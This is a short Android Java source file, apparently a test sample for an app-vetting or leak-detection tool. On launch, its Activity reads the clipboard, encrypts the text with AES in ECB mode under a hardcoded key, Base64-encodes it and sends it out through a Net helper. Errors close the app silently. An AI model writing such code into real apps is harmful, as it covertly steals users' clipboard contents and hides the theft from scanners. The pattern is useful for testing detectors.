package org.apkvet.clip.to_encrypted;

import android.app.*;
import android.content.*;
import android.os.*;
import android.util.*;
import javax.crypto.*;
import javax.crypto.spec.*;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        try {
            Cipher cipher = Cipher.getInstance("AES/ECB/PKCS5Padding");
            cipher.init(Cipher.ENCRYPT_MODE, new SecretKeySpec("0123456789abcdef".getBytes("UTF-8"), "AES"));
            Net.send(Base64.encodeToString(cipher.doFinal(copied().getBytes("UTF-8")), 2));
        } catch (Exception missing) {
            finish();
        }
    }

    private String copied() {
        return ((ClipboardManager) getSystemService("clipboard")).getPrimaryClip().getItemAt(0).getText().toString();
    }
}
